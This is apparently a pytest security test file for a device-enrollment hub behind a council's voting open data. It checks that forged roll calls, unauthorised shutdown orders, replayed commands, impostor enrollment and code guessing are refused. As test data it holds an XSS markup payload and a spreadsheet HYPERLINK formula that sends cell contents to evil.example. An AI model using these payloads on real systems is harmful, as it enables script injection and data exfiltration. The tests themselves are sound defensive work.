"""Attacks by a device that is legitimately enrolled: it may say only what its roles say.

Each attacker here is a node enrolled at a real hub (its own key, a real
enrollment code for its role) that then signs requests by hand, as a
stolen board with its key would. The cryptography lets it in; what it
says must still be refused when its roles do not say it, stored nowhere,
and reported to the technicians as a security alert.
"""

from __future__ import annotations

import asyncio
import json
import time
from typing import Any

import aiohttp
import pytest

from edge.identity import Identity
from edge.timeutil import iso_utc, uuid7
from edge.config import load_node_config
from edge.node import Node
from tests.conftest import HubFixture, node_toml, wait_until


def message(kind: str, payload: dict[str, Any], priority: int = 0) -> dict[str, Any]:
    return {"msg_id": uuid7(), "kind": kind, "priority": priority, "created_at": iso_utc(), "payload": payload}


def forged_result(uid: str = "2026-12-04-1") -> dict[str, Any]:
    """A roll call as the open data publishes it: every deputy «за» a motion nobody voted on."""
    return {
        "motion": {"authorityId": "04054866", "uid": uid, "date": "2026-12-04", "title": "Про продаж землі"},
        "sitting": {"convocation": 8, "session": 40},
        "votings": [{"voterId": f"d{i}", "result": "za"} for i in range(1, 4)],
        "chain_hash": "0" * 64,
    }


async def send(hub: HubFixture, who: Identity, messages: list[dict[str, Any]]) -> tuple[int, dict[str, Any]]:
    body = json.dumps({"messages": messages}).encode()
    headers = who.sign_request("POST", "/api/v1/ingest", body, time.time())
    async with aiohttp.ClientSession() as s:
        async with s.post(hub.url + "/api/v1/ingest", data=body,
                          headers={**headers, "Content-Type": "application/json"}) as r:
            return r.status, await r.json(content_type=None)


@pytest.fixture
async def enroll(hub: HubFixture, node_factory):
    async def enrolled(name: str, role: str) -> Identity:
        node = await node_factory(name, hub.url, hub.code(role=role), roles=[role])
        await wait_until(node.hub.approved.is_set, what=f"{name} approved")
        await node.stop()  # from here on, only what the test signs by hand
        return node.identity
    return enrolled


def security_alerts(hub: HubFixture, node_id: str) -> list[tuple[str, str]]:
    return hub.query("SELECT severity, message FROM alerts WHERE dedup_key = ? AND cleared_at IS NULL",
                     f"security.kind:{node_id}")


async def test_a_kiosk_cannot_publish_a_roll_call(hub, enroll) -> None:
    kiosk = await enroll("kiosk-1", "kiosk")
    forged = message("voting.result", forged_result())
    status, answer = await send(hub, kiosk, [forged])
    assert status == 200
    assert answer["stored"] == 0
    assert [r["msg_id"] for r in answer["rejected"]] == [forged["msg_id"]]
    assert "hall" in answer["rejected"][0]["reason"]
    assert hub.query("SELECT count(*) FROM events WHERE msg_id = ?", forged["msg_id"]) == [(0,)]
    assert hub.query("SELECT count(*) FROM opendata_motions") == [(0,)]
    (severity, text), = security_alerts(hub, kiosk.id)
    assert severity == "critical" and "voting.result" in text and "kiosk" in text
    async with aiohttp.ClientSession() as s:  # the public open data shows nothing for the day
        async with s.get(hub.url + "/opendata/voting/2026-12-04/roll-call.json") as r:
            body = await r.text()
    assert "Про продаж землі" not in body


async def test_a_console_cannot_make_the_hub_shut_the_hall_down(hub, enroll) -> None:
    console = await enroll("consoles-1", "console")
    order = message("power.shutdown", {"target": "hall-1", "reason": "test"})
    status, answer = await send(hub, console, [order])
    assert status == 200 and answer["stored"] == 0 and len(answer["rejected"]) == 1
    assert hub.query("SELECT count(*) FROM power_shutdowns") == [(0,)]
    assert len(security_alerts(hub, console.id)) == 1


async def test_a_kind_no_role_sends_is_refused_and_the_rest_of_the_batch_is_stored(hub, enroll) -> None:
    kiosk = await enroll("kiosk-2", "kiosk")
    invented, alert = message("hub.admin.approve", {"node": "x"}), message(
        "alert", {"key": "printer.paper", "state": "raised", "severity": "warning", "message": "Папір закінчується"})
    status, answer = await send(hub, kiosk, [invented, alert])
    assert status == 200 and answer["stored"] == 1
    assert [r["msg_id"] for r in answer["rejected"]] == [invented["msg_id"]]
    assert "no role" in answer["rejected"][0]["reason"]
    assert hub.query("SELECT count(*) FROM alerts WHERE dedup_key = ?", f"{kiosk.id}:printer.paper") == [(1,)]


async def test_the_hall_publishes_its_roll_call_and_a_malformed_one_is_refused_alone(hub, enroll) -> None:
    hall = await enroll("hall-1", "hall")
    good, broken = message("voting.result", forged_result("2026-12-04-2")), message("voting.result", {"motion": {}})
    status, answer = await send(hub, hall, [broken, good])
    assert status == 200, answer
    assert answer["stored"] == 1
    assert [r["msg_id"] for r in answer["rejected"]] == [broken["msg_id"]]
    assert hub.query("SELECT uid FROM opendata_motions") == [("2026-12-04-2",)]
    assert hub.query("SELECT count(*) FROM events WHERE msg_id = ?", broken["msg_id"]) == [(0,)]
    assert security_alerts(hub, hall.id) == []


PLANTED = "2026-12-04<img src=x onerror=\"window.planted=1\"><script>window.planted=2</script>"


async def test_a_hall_cannot_plant_markup_in_the_open_data(hub, enroll) -> None:
    hall = await enroll("hall-2", "hall")
    result = forged_result("2026-12-04-3")
    result["motion"]["date"] = PLANTED
    status, answer = await send(hub, hall, [message("voting.result", result)])
    assert status == 200 and answer["stored"] == 0
    assert "date" in answer["rejected"][0]["reason"]
    assert hub.query("SELECT count(*) FROM opendata_motions") == [(0,)]


async def test_the_open_data_index_runs_no_script_a_row_carries(hub, enroll, browser_page) -> None:
    # A row as an older hub stored it, before dates were checked at ingest: the page must still be inert.
    hall = await enroll("hall-3", "hall")
    await send(hub, hall, [message("voting.result", forged_result("2026-12-04-4"))])
    import sqlite3
    conn = sqlite3.connect(hub.state / "hub.sqlite")
    with conn:
        conn.execute("UPDATE opendata_motions SET date = ?", (PLANTED,))
    conn.close()
    page = browser_page
    response = await page.goto(hub.url + "/opendata/voting/")
    assert response is not None and response.status == 200
    assert "default-src 'none'" in (response.headers.get("content-security-policy") or "")
    await page.wait_for_load_state("load")
    assert await page.evaluate("window.planted === undefined")
    assert await page.locator("img, script").count() == 0
    assert PLANTED in await page.locator("li").first.inner_text()  # shown as text, as it was written


async def test_open_data_csv_does_not_hand_a_spreadsheet_a_formula(hub, enroll) -> None:
    hall = await enroll("hall-4", "hall")
    result = forged_result("2026-12-04-5")
    result["motion"]["title"] = '=HYPERLINK("http://evil.example/?"&A1,"Деталі")'
    await send(hub, hall, [message("voting.result", result)])
    async with aiohttp.ClientSession() as s:
        async with s.get(hub.url + "/opendata/voting/2026-12-04/motions.csv") as r:
            assert r.status == 200
            text = await r.text()
    import csv
    import io
    rows = list(csv.DictReader(io.StringIO(text)))
    titles = [v for row in rows for v in row.values() if "HYPERLINK" in (v or "")]
    assert titles and all(t.startswith("'=") for t in titles)


async def test_a_command_for_one_node_is_refused_by_another_and_a_replay_by_its_own(hub, node_factory) -> None:
    # What a man in the middle of the LAN could do with a hub command he saw: hand it to another node
    # (the hall's «shutdown» to the console board), or hand it again to the same node.
    hall = await node_factory("hall-5", hub.url, hub.code(role="hall"))
    other = await node_factory("hall-6", hub.url, hub.code(role="hall"))
    for n in (hall, other):
        await wait_until(n.hub.connected.is_set, what="websocket")
    ran: list[tuple[str, dict]] = []

    def recorder(node):
        async def handle(args: dict) -> dict:
            ran.append((node.config.node.name, args))
            return {"done": True}
        return handle

    hall.hub.command_handlers["probe"] = recorder(hall)
    other.hub.command_handlers["probe"] = recorder(other)
    sent: list[dict] = []
    real_send = hub.hub._send

    async def keep(ws, message):
        sent.append(message)
        await real_send(ws, message)

    hub.hub._send = keep
    reply = await hub.hub.send_command(hall.identity.id, "probe", {"n": 1})
    assert reply["ok"] and ran == [("hall-5", {"n": 1})]
    command = next(m for m in sent if m.get("type") == "command")
    assert command["to"] == hall.identity.id
    # The same signed command, replayed: to the other node, then to its own.
    replay = {k: v for k, v in command.items() if k != "ts"}
    await real_send(hub.hub.sockets[other.identity.id], replay)
    await real_send(hub.hub.sockets[hall.identity.id], replay)
    await wait_until(lambda: len(hub.query(
        "SELECT 1 FROM alerts WHERE kind LIKE 'security.%' AND cleared_at IS NULL")) == 2, what="two security alerts")
    assert ran == [("hall-5", {"n": 1})]
    keys = sorted(k for (k,) in hub.query("SELECT dedup_key FROM alerts WHERE kind LIKE 'security.%'"))
    assert keys == sorted([f"{other.identity.id}:security.command_wrong_target",
                           f"{hall.identity.id}:security.command_replayed"])


async def test_a_reply_counts_only_from_the_node_asked(hub, node_factory) -> None:
    hall = await node_factory("hall-7", hub.url, hub.code(role="hall"))
    console = await node_factory("consoles-7", hub.url, hub.code(role="console"), roles=["console"])
    for n in (hall, console):
        await wait_until(n.hub.connected.is_set, what="websocket")
    gate = asyncio.Event()

    async def slow(args: dict) -> dict:
        await gate.wait()
        return {"from": "hall"}

    hall.hub.command_handlers["slow"] = slow
    asked = asyncio.create_task(hub.hub.send_command(hall.identity.id, "slow", {}, timeout=10))
    await wait_until(lambda: len(hub.hub._pending_replies) == 1, what="command pending")
    cmd_id = next(iter(hub.hub._pending_replies))
    # The console's board (its own key, an authentic link) answers in the hall's place.
    from edge.identity import seal
    headers = console.identity.sign_request("GET", "/api/v1/ws", b"", time.time())
    forged = seal(console.identity, {"type": "reply", "id": cmd_id, "ok": True, "result": {"from": "console"}})
    async with aiohttp.ClientSession() as s:
        async with s.ws_connect(hub.url.replace("http", "ws", 1) + "/api/v1/ws", headers=headers) as ws:
            await ws.receive()  # the hub's hello
            await ws.send_str(forged)
            await ws.send_str(json.dumps({"type": "reply", "id": cmd_id, "ok": True, "result": {"from": "plain"}}))
    await asyncio.sleep(0.3)
    assert not asked.done()
    gate.set()
    assert (await asked)["result"] == {"from": "hall"}


async def test_a_code_fixes_the_roles_and_a_second_node_may_not_take_a_name(hub, node_factory, tmp_path) -> None:
    # The impostor console: a hall-display code, a node asking to be hall-display *and* console.
    def console_settings(first_pin: int, display: bool = False) -> str:
        pins = dict(zip(("za", "proty", "utrymavsia", "presence", "led_za", "led_proty", "led_utrymavsia",
                         "led_status"), range(first_pin, first_pin + 8)))
        text = '[roles.console]\nhall_url = "http://127.0.0.1:9"\n[[roles.console.seats]]\nseat = "1"\n'
        text += "".join(f"{k} = {v}\n" for k, v in pins.items())
        if display:
            text += '[roles.hall-display]\nhall_url = "http://127.0.0.1:9"\nfullscreen = false\nwidth = 640\nheight = 360\n'
        return text

    display_code = hub.code(role="hall-display")
    impostor = await node_factory("screen-1", hub.url, display_code, roles=["hall-display", "console"],
                                  extra=console_settings(2, display=True))
    await asyncio.sleep(1.0)
    assert not impostor.hub.approved.is_set()
    assert hub.query("SELECT count(*) FROM nodes WHERE name = 'screen-1'") == [(0,)]
    assert hub.query("SELECT used_at FROM tokens") == [(None,)]  # the refused attempt did not spend the code
    (site, text), = hub.query("SELECT site, message FROM alerts WHERE kind = 'security.enrollment'")
    assert site == "rada" and "console" in text
    # A second «consoles-1» at the site is refused, although its code is good.
    first = await node_factory("consoles-1", hub.url, hub.code(role="console"), roles=["console"],
                               extra=console_settings(10))
    await wait_until(first.hub.approved.is_set, what="the first consoles-1")
    # Another board (its own key, its own state) under the same name.
    path = tmp_path / "elsewhere" / "consoles-1.toml"
    path.parent.mkdir()
    path.write_text(node_toml(path.parent / "state", "consoles-1", ["console"], hub.url, hub.code(role="console"),
                              extra=console_settings(18)))
    second = Node(load_node_config(path))
    await second.start()
    try:
        await asyncio.sleep(1.0)
        assert not second.hub.approved.is_set()
        assert second.identity.id != first.identity.id
    finally:
        await second.stop()
    assert hub.query("SELECT count(*) FROM nodes WHERE name = 'consoles-1'") == [(1,)]
    assert len(hub.query("SELECT 1 FROM alerts WHERE kind = 'security.enrollment'")) == 2


@pytest.mark.parametrize("ttl", [float("nan"), float("inf"), -1, 0, "10", True, 10 ** 9])
async def test_an_enrollment_code_lifetime_must_be_a_sane_number(hub, ttl) -> None:
    # NaN made a code that never expired: now > NaN is false.
    from tests.dash_fixtures import add_account, logged_in
    session, me = await logged_in(hub.url, add_account(hub.state, "olha", "admin"))
    try:
        body = json.dumps({"site": "rada", "role": "hall", "ttl_s": ttl})  # NaN and Infinity as Python writes them
        async with session.post("/api/v1/dash/tokens", data=body, headers={
                "X-CSRF-Token": me["csrf"], "Content-Type": "application/json"}) as r:
            assert r.status == 400, await r.text()
            assert (await r.json())["error"]["code"] == "bad_parameter"
    finally:
        await session.close()
    assert hub.query("SELECT count(*) FROM tokens") == [(0,)]


@pytest.mark.parametrize("limit", ["-1", "0", "abc", "1e9", "99999999999999999999"])
async def test_a_bad_limit_is_a_400_not_everything_or_a_500(hub, limit) -> None:
    # SQLite reads LIMIT -1 as "no limit".
    from tests.dash_fixtures import add_account, logged_in
    session, _ = await logged_in(hub.url, add_account(hub.state, "taras", "technician"))
    try:
        for path in ("/api/v1/alerts", "/api/v1/dash/events"):
            async with session.get(path, params={"limit": limit}) as r:
                assert r.status == 400, (path, await r.text())
                assert (await r.json())["error"]["code"] == "bad_parameter"
    finally:
        await session.close()


async def test_guessing_enrollment_codes_from_one_address_is_slowed_and_stores_nothing(hub, tmp_path) -> None:
    # Real codes have 85 bits of secret; still, an address that keeps failing must wait.
    from edge import hubclient
    from edge.config import parse_node_config
    from edge.hub.registry import EnrollmentCode
    from edge.hubclient import HubClient, HubRefused, HubUnavailable
    from edge.store import Store

    good = EnrollmentCode.parse(hub.code(role="console"))

    async def attempt(i: int, code: str) -> HubClient:
        state = tmp_path / f"guess-{i}"
        cfg = parse_node_config({"node": {"name": f"guess-{i}", "site": "rada", "roles": ["console"],
                                          "state_dir": str(state)}, "hub": {"url": hub.url, "enrollment_code": code}})
        store = await Store.open(state / "node.sqlite", {"hubclient": hubclient.MIGRATIONS})
        client = HubClient(cfg, Identity.load_or_create(state), store, None, lambda: 1)
        await client.load_state()
        return client

    statuses = []
    for i in range(12):
        guess = str(EnrollmentCode(good.token_id, "a" * len(good.secret), good.hub_fingerprint))
        client = await attempt(i, guess)
        try:
            await client.enroll()
        except HubRefused as exc:
            statuses.append(exc.status)
        except HubUnavailable as exc:  # 429: the node waits as the hub says, as it does for a busy hub
            statuses.append((429, exc.retry_after))
        finally:
            await client.close()
            await client.store.close()
    assert statuses[:10] == [403] * 10 and statuses[10:] == [(429, 60.0)] * 2
    assert hub.query("SELECT count(*) FROM nodes") == [(0,)]
    assert hub.query("SELECT used_at FROM tokens") == [(None,)]
